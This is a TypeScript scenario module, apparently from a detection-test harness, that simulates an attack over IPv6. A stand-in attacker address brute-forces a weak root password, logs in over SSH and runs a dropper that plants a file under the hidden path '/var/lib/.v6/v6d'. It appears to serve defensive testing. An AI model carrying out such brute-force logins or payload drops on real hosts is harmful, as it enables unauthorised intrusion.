// The host is reached by IPv6 alone.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import type { Stage } from '../../stage.ts'
import { weak, weakRoot } from '../../weak-root.ts'
import { wordsWith } from '../../words.ts'

const from = '2001:db8:77::bad'

export function dress(dress: Dress): void {
  weakRoot(dress)
}

export async function plant(stage: Stage): Promise<void> {
  await stage.inside('ip -6 addr add 2001:db8:1::2/64 dev eth0 nodad; ip -6 route add default via 2001:db8:1::1')
  await stage.outside('ip -6 addr add 2001:db8:1::1/64 dev uplink nodad; ip -6 addr add "$FROM/128" dev lo nodad', { FROM: from })
  await stage.guess(from, 'root', wordsWith(weak, 25), '2001:db8:1::2')
  const line = dropper(stage, { path: '/var/lib/.v6/v6d' })
  stage.mark('occurrence')
  await stage.ssh(from, 'root', { password: weak }, line, '2001:db8:1::2')
}
